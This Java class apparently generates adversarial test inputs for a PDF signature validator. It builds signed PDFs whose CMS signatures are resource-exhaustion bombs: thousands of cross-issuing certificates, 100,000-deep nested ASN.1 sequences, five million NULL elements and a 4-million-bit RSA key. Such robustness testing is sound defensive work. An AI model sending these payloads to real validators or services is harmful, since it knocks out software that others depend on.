package id.absah.adversary;

import id.absah.adversary.Certificates.Identity;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigInteger;
import java.nio.ByteBuffer;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.concurrent.Callable;
import org.bouncycastle.asn1.ASN1ObjectIdentifier;
import org.bouncycastle.asn1.pkcs.PKCSObjectIdentifiers;
import org.bouncycastle.asn1.pkcs.RSAPublicKey;
import org.bouncycastle.asn1.x509.AlgorithmIdentifier;
import org.bouncycastle.asn1.x509.SubjectPublicKeyInfo;
import org.bouncycastle.asn1.x509.TBSCertificate;
import org.bouncycastle.asn1.x509.V3TBSCertificateGenerator;
import org.bouncycastle.cert.X509CertificateHolder;

/** Documents whose signature is made to cost whoever validates it: built, never stored. */
public final class CmsBombs {
  private static final int CERTIFICATES = 10_000;
  private static final int LEVELS = 100_000;
  private static final int ELEMENTS = 5_000_000;
  private static final int MODULUS_BITS = 4_000_000;

  private CmsBombs() {}

  /** Every one by name. */
  public static Map<String, Callable<byte[]>> all() {
    Map<String, Callable<byte[]>> bombs = new LinkedHashMap<>();
    bombs.put("cms-certificates", () -> sealed(certificates()::over));
    bombs.put("cms-deep", () -> sealed(covered -> deep()));
    bombs.put("cms-elements", () -> sealed(covered -> elements()));
    bombs.put("cms-modulus", () -> sealed(modulus()::over));
    return bombs;
  }

  /** Seals with as much room as the signature takes. */
  private static byte[] sealed(Seal.Cms cms) throws Exception {
    int room = cms.over(new byte[0]).length + 100;
    String dictionary =
        Seal.dictionary("").replace(Seal.GAP, "/Contents <" + "0".repeat(2 * room) + ">");
    byte[] file = Draft.plain().put(7, dictionary).unsealed();
    int start = Latin.text(file).lastIndexOf("/Contents <0") + "/Contents ".length();
    int end = start + 2 * room + 2;
    byte[] range = Latin.bytes(Seal.Range.of(start, end, file.length).written());
    System.arraycopy(range, 0, file, Latin.text(file).lastIndexOf(Seal.NUMBERS) + 1, range.length);
    ByteArrayOutputStream covered = new ByteArrayOutputStream();
    covered.write(file, 0, start);
    covered.write(file, end, file.length - end);
    byte[] value = cms.over(covered.toByteArray());
    byte[] hex = Latin.bytes(java.util.HexFormat.of().formatHex(value));
    System.arraycopy(hex, 0, file, start + 1, hex.length);
    return file;
  }

  /** Ten thousand certificates of one authority, each of which may have issued any other. */
  private static Message certificates() throws IOException {
    Certificates pki = Certificates.shared();
    byte[] encoded = pki.ca.encoded();
    byte[] serial = pki.ca.certificate().getSerialNumber().toByteArray();
    int at = 0;
    while (!Arrays.equals(
        Arrays.copyOfRange(encoded, at, at + 2 + serial.length), integer(serial))) {
      at++;
    }
    Message message = new Message(pki.signer);
    for (int i = 0; i < CERTIFICATES; i++) {
      byte[] other = encoded.clone();
      // all of one length, so that nothing else has to change
      byte[] number = ByteBuffer.allocate(Integer.BYTES).putInt(0x100 + i).array();
      System.arraycopy(number, number.length - serial.length, other, at + 2, serial.length);
      message.with(new Identity(new X509CertificateHolder(other), pki.ca.keys(), "-"));
    }
    return message;
  }

  private static byte[] integer(byte[] value) {
    return ByteBuffer.allocate(2 + value.length)
        .put((byte) 2)
        .put((byte) value.length)
        .put(value)
        .array();
  }

  /** Sequences of indefinite length in each other. */
  private static byte[] deep() {
    byte[] bytes = new byte[4 * LEVELS];
    for (int i = 0; i < LEVELS; i++) {
      bytes[2 * i] = 0x30;
      bytes[2 * i + 1] = (byte) 0x80;
    }
    return bytes;
  }

  /** One sequence of very many nothings. */
  private static byte[] elements() {
    ByteBuffer bytes = ByteBuffer.allocate(2 * ELEMENTS + 6);
    bytes.put((byte) 0x30).put((byte) 0x84).putInt(2 * ELEMENTS);
    for (int i = 0; i < ELEMENTS; i++) {
      bytes.put((byte) 5).put((byte) 0);
    }
    return bytes.array();
  }

  /** A key that no processor raises to any power in time. */
  private static Message modulus() throws IOException {
    Certificates pki = Certificates.shared();
    BigInteger modulus = BigInteger.ONE.shiftLeft(MODULUS_BITS).subtract(BigInteger.valueOf(3));
    AlgorithmIdentifier rsa = new AlgorithmIdentifier(PKCSObjectIdentifiers.rsaEncryption);
    X509CertificateHolder own = pki.signer.certificate();
    V3TBSCertificateGenerator certificate = new V3TBSCertificateGenerator();
    certificate.setSerialNumber(new org.bouncycastle.asn1.ASN1Integer(own.getSerialNumber()));
    certificate.setIssuer(own.getIssuer());
    certificate.setSubject(own.getSubject());
    TBSCertificate model = own.toASN1Structure().getTBSCertificate();
    certificate.setStartDate(model.getStartDate());
    certificate.setEndDate(model.getEndDate());
    certificate.setSignature(own.toASN1Structure().getSignatureAlgorithm());
    certificate.setExtensions(model.getExtensions());
    certificate.setSubjectPublicKeyInfo(
        new SubjectPublicKeyInfo(rsa, new RSAPublicKey(modulus, modulus.subtract(BigInteger.TWO))));
    org.bouncycastle.asn1.ASN1EncodableVector parts =
        new org.bouncycastle.asn1.ASN1EncodableVector();
    parts.add(certificate.generateTBSCertificate());
    parts.add(own.toASN1Structure().getSignatureAlgorithm());
    parts.add(own.toASN1Structure().getSignature());
    X509CertificateHolder holder =
        new X509CertificateHolder(new org.bouncycastle.asn1.DERSequence(parts).getEncoded());
    Identity signer = new Identity(holder, pki.signer.keys(), pki.signer.algorithm());
    return new Message(signer)
        .with(pki.ca)
        .named(
            new AlgorithmIdentifier(
                new ASN1ObjectIdentifier(PKCSObjectIdentifiers.sha256WithRSAEncryption.getId())));
  }
}
